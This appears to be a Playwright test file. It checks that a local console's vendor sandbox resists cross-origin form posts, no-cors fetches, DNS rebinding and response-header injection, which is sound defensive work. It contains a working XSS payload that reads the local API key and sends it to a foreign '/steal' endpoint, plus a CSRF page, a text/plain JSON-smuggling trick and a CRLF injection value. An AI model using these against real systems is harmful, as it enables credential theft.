/**
 * The vendor sandbox shares the console's origin, so a web page elsewhere must not be able to use it (issue 20,
 * point 13). A page on another origin – a second HTTP server on another port, opened in headless Chromium – tries
 * what a browser lets any page do without a CORS preflight: cross-site form posts (text/plain, urlencoded,
 * multipart) and no-cors fetches to /sandbox/*, aiming to script an HTML answer that reads /local/info from the
 * console's origin. Each attempt is refused and leaves nothing behind; a scripted answer is never a page; a
 * rebound DNS name is refused; what the sender, a developer and the console itself send still works.
 */
import { createServer, request, Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Browser, Page, Response } from 'playwright-core';
import type { LocalStack } from '../../local/stack';
import { launchChromium } from '../../scripts/console-browser';
import { StackClient, startExampleStack } from '../support/local-stack';

// Functions given to page.evaluate run in the page; the project compiles without the DOM library.
declare const document: any;
declare const window: any;

let stack: LocalStack;
let client: StackClient;
let browser: Browser;
let foreign: Server;
let foreignOrigin: string;
/** Every request the foreign server received at /steal: what a successful attack would send home. */
const stolen: string[] = [];

/** What the attack wants the sandbox to serve from the console's origin: a script reading the local API key. */
const payload = () =>
  `<script>fetch('/local/info').then(r => r.json()).then(i => { document.title = 'stolen'; ` +
  `return fetch('${foreignOrigin}/steal?key=' + encodeURIComponent(i.apiKey), { mode: 'no-cors' }); })</script>`;

/** The foreign page: helpers that open a URL and post a form, each into a frame of its own. */
const ATTACK_PAGE = `<!doctype html><title>elsewhere</title>
<script>
let frames = 0;
const frame = () => {
  const iframe = document.createElement('iframe');
  iframe.name = 'sink-' + ++frames;
  document.body.append(iframe);
  return iframe;
};
window.visit = (url) => { frame().src = url; };
window.post = (action, enctype, fields) => {
  const form = document.createElement('form');
  Object.assign(form, { method: 'POST', action, enctype, target: frame().name });
  for (const [name, value] of fields) {
    const input = document.createElement('input');
    Object.assign(input, { type: 'hidden', name, value });
    form.append(input);
  }
  document.body.append(form);
  form.submit();
};
</script>`;

beforeAll(async () => {
  browser = await launchChromium();
  stack = await startExampleStack();
  client = new StackClient(stack, 'local-dev-key');
  // Another origin on this machine: 127.0.0.1 and another port, where the stack is localhost.
  foreign = createServer((req, res) => {
    const url = new URL(req.url ?? '/', 'http://foreign');
    if (url.pathname === '/steal') {
      stolen.push(url.searchParams.get('key') ?? '');
      res.writeHead(204).end();
      return;
    }
    res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' }).end(ATTACK_PAGE);
  });
  await new Promise<void>((resolve) => foreign.listen(0, '127.0.0.1', resolve));
  foreignOrigin = `http://127.0.0.1:${(foreign.address() as AddressInfo).port}`;
});
afterAll(async () => {
  await browser?.close();
  await stack?.stop();
  await new Promise((resolve) => foreign?.close(resolve));
});

beforeEach(async () => {
  await fetch(`${stack.sandboxUrl}/requests`, { method: 'DELETE' });
  await client.setBehaviour('pwn', null);
});

async function behaviourOf(vendor: string): Promise<unknown> {
  return ((await (await fetch(`${stack.sandboxUrl}/${vendor}/_behaviour`)).json()) as { behaviour: unknown }).behaviour;
}

async function foreignPage(): Promise<Page> {
  const page = await browser.newPage();
  await page.goto(`${foreignOrigin}/`);
  return page;
}

/** Posts a form from the foreign page into its frame; resolves with the sandbox's answer once it has arrived. */
async function postForm(page: Page, action: string, enctype: string, fields: Array<[string, string]>): Promise<Response> {
  const [response] = await Promise.all([
    page.waitForResponse((r) => r.url() === action),
    page.evaluate(([a, e, f]) => window.post(a, e, f), [action, enctype, fields] as const),
  ]);
  return response;
}

describe('a page on another origin', () => {
  it('cannot script the sandbox with a cross-site form, nor make it serve a page that reads /local/info', async () => {
    const page = await foreignPage();
    const infoRequests: string[] = [];
    page.on('request', (r) => {
      if (r.url().includes('/local/info')) infoRequests.push(r.url());
    });
    // A text/plain form sends `name=value` unencoded: with the `=` hidden inside a JSON string, the body is JSON.
    const json = JSON.stringify({ status: 200, headers: { 'content-type': 'text/html' }, body: `${payload()}<!--` });
    const name = `${json.slice(0, -2)}`; // …<!--
    const value = `-->"}`;
    expect(`${name}=${value}`).toBe(JSON.stringify({ status: 200, headers: { 'content-type': 'text/html' }, body: `${payload()}<!--=-->` }));

    const plain = await postForm(page, `${stack.sandboxUrl}/pwn/_behaviour`, 'text/plain', [[name, value]]);
    expect(plain.status()).toBe(403);
    expect(await behaviourOf('pwn')).toBeNull();

    // The page the attack wanted rendered, opened in the foreign page's frame: no page, no script, no request.
    const [rendered] = await Promise.all([
      page.waitForResponse((r) => r.url() === `${stack.sandboxUrl}/pwn/page`),
      page.evaluate((url) => window.visit(url), `${stack.sandboxUrl}/pwn/page`),
    ]);
    expect(rendered.headers()['content-type']).not.toMatch(/html/);
    expect(rendered.headers()['x-content-type-options']).toBe('nosniff');
    expect(infoRequests).toEqual([]);
    expect(stolen).toEqual([]);
    await page.close();
  });

  it('cannot set a behaviour, record a vendor call or reach the sandbox by any form or no-cors fetch', async () => {
    const page = await foreignPage();
    const behaviour = JSON.stringify({ status: 503 });
    for (const enctype of ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data']) {
      // As text/plain, `{"status":503,"body":"` `=` `"}` is the JSON of a behaviour.
      const answer = await postForm(page, `${stack.sandboxUrl}/pwn/_behaviour`, enctype, [['{"status":503,"body":"', '"}']]);
      expect(answer.status()).toBe(403);
      // A vendor call as a form postback would make it, forged by the page.
      const call = `${stack.sandboxUrl}/awin/sread.php?tt=ss&ref=forged&cks=forged&amount=1`;
      expect((await postForm(page, call, enctype, [['ref', 'forged']])).status()).toBe(403);
    }
    // fetch without a preflight (no-cors: the answer is opaque, but the request is sent) …
    await page.evaluate(
      ([url, body]) => fetch(url, { method: 'POST', mode: 'no-cors', body }),
      [`${stack.sandboxUrl}/pwn/_behaviour`, behaviour] as const,
    );
    await page.evaluate((url) => fetch(url, { mode: 'no-cors' }), `${stack.sandboxUrl}/kelkoo/st?country=fr&orderId=forged`);
    // … and with one, which the sandbox never passes: the request itself is not sent, the preflight not recorded.
    const preflighted = await page.evaluate(
      (url) =>
        fetch(url, { method: 'POST', headers: { 'content-type': 'application/json' }, body: '[]' }).then(
          () => 'answered',
          () => 'refused',
        ),
      `${stack.sandboxUrl}/klevu/analytics/collect`,
    );
    expect(preflighted).toBe('refused');

    expect(await behaviourOf('pwn')).toBeNull();
    expect(await client.sandboxCalls()).toEqual([]);
    await page.close();
  });
});

describe('a scripted answer', () => {
  it('is never a page: an HTML content type is refused, an HTML body is served as text that runs nothing', async () => {
    const refused = await fetch(`${stack.sandboxUrl}/pwn/_behaviour`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ status: 200, headers: { 'Content-Type': 'text/html' }, body: payload() }),
    });
    expect(refused.status).toBe(400);
    expect(((await refused.json()) as { error: { message: string } }).error.message).toContain('text/plain or JSON only, not text/html');

    // A developer may script any body; opened in the browser (the address bar), it stays text.
    await client.setBehaviour('pwn', { status: 200, body: payload() });
    const page = await browser.newPage();
    const infoRequests: string[] = [];
    page.on('request', (r) => {
      if (r.url().includes('/local/info')) infoRequests.push(r.url());
    });
    const response = (await page.goto(`${stack.sandboxUrl}/pwn/page`))!;
    expect(response.headers()['content-type']).toBe('text/plain; charset=utf-8');
    expect(response.headers()['x-content-type-options']).toBe('nosniff');
    const policy = response.headers()['content-security-policy'] ?? '';
    expect(policy).toContain("default-src 'none'");
    expect(policy).toMatch(/(^|; )sandbox(;|$)/);
    expect(await page.evaluate(() => [document.contentType, document.querySelectorAll('script').length, document.title])).toEqual(['text/plain', 0, '']);
    // goto waited for the load event: a script that ran would have asked for /local/info by now.
    expect(infoRequests).toEqual([]);
    expect(stolen).toEqual([]);
    await page.close();
  });

  it('cannot set the headers that would make it something else, or that Node cannot send', async () => {
    for (const headers of [
      { 'content-type': 'application/xhtml+xml' },
      { 'content-security-policy': "default-src *" },
      { 'x-content-type-options': 'none' },
      { 'access-control-allow-origin': '*' },
      { 'set-cookie': 'a=b' },
      { 'retry-after': '1\r\nx-injected: 1' },
    ]) {
      const answer = await fetch(`${stack.sandboxUrl}/pwn/_behaviour`, {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify({ status: 503, headers }),
      });
      expect([Object.keys(headers)[0], answer.status]).toEqual([Object.keys(headers)[0], 400]);
    }
    // What a vendor answers with still can be scripted, a JSON content type included.
    await client.setBehaviour('pwn', { status: 429, headers: { 'retry-after': '5', 'content-type': 'application/json' }, body: '{"error":"slow down"}' });
    const answer = await fetch(`${stack.sandboxUrl}/pwn/x`);
    expect([answer.status, answer.headers.get('retry-after'), answer.headers.get('content-type'), await answer.text()]).toEqual([
      429,
      '5',
      'application/json',
      '{"error":"slow down"}',
    ]);
  });
});

describe('over plain HTTP', () => {
  /** A request with the given Host header, as a page reaches the stack through a DNS name rebound to 127.0.0.1. */
  function withHost(method: string, path: string, host: string, body?: string): Promise<number> {
    return new Promise((resolve, reject) => {
      const req = request(`${stack.baseUrl}${path}`, { method, headers: { host, ...(body ? { 'content-type': 'application/json' } : {}) } }, (res) => {
        res.resume();
        resolve(res.statusCode ?? 0);
      });
      req.on('error', reject);
      req.end(body);
    });
  }

  it('refuses every sandbox route unless Host names this machine', async () => {
    for (const [method, path, body] of [
      ['GET', '/sandbox/requests'],
      ['POST', '/sandbox/pwn/_behaviour', JSON.stringify({ status: 503 })],
      ['GET', '/sandbox/kelkoo/st?country=fr&orderId=rebound'],
    ] as const) {
      expect([path, await withHost(method, path, 'attacker.example:80', body)]).toEqual([path, 403]);
    }
    expect(await behaviourOf('pwn')).toBeNull();
    expect(await client.sandboxCalls()).toEqual([]);
    expect(await withHost('GET', '/sandbox/requests', `127.0.0.1:${new URL(stack.baseUrl).port}`)).toBe(200);
  });

  it('takes a behaviour as JSON only, and a vendor call with a JSON or form body only', async () => {
    const post = (path: string, type: string | undefined, body: string) =>
      fetch(`${stack.sandboxUrl}${path}`, { method: 'POST', headers: type ? { 'content-type': type } : {}, body: new TextEncoder().encode(body) });
    expect((await post('/pwn/_behaviour', 'text/plain', '{"status":503}')).status).toBe(415);
    expect((await post('/pwn/_behaviour', undefined, '{"status":503}')).status).toBe(415);
    expect(await behaviourOf('pwn')).toBeNull();
    expect((await post('/awin/sread.php?ref=o-1', 'text/plain', 'ref=o-1')).status).toBe(415);
    expect((await post('/awin/sread.php?ref=o-1', 'multipart/form-data; boundary=x', '--x--')).status).toBe(415);
    expect((await post('/awin/sread.php?ref=o-1', undefined, 'ref=o-1')).status).toBe(415);
    expect(await client.sandboxCalls()).toEqual([]);

    // What the adapters send is received and recorded: a form postback, Klevu's JSON, a GET, a POST without a body.
    await post('/awin/sread.php?ref=o-1', 'application/x-www-form-urlencoded', 'ref=o-1');
    await post('/klevu/analytics/collect', 'application/json; charset=utf-8', '[]');
    await fetch(`${stack.sandboxUrl}/kelkoo/st?country=fr`);
    await fetch(`${stack.sandboxUrl}/awin/sread.php?ref=o-2`, { method: 'POST' });
    expect((await client.sandboxCalls()).map((c) => `${c.method} ${c.vendor}`)).toEqual(['POST awin', 'POST klevu', 'GET kelkoo', 'POST awin']);
  });

  it('answers the console itself, on its own origin', async () => {
    const page = await browser.newPage();
    await page.goto(`${stack.baseUrl}/`);
    const answers = await page.evaluate(async () => {
      const set = await fetch('/sandbox/pwn/_behaviour', { method: 'POST', headers: { 'content-type': 'application/json' }, body: '{"status":503}' });
      const list = await fetch('/sandbox/requests');
      return [set.status, list.status];
    });
    expect(answers).toEqual([200, 200]);
    expect(await behaviourOf('pwn')).toEqual({ status: 503 });
    await page.close();
  });
});
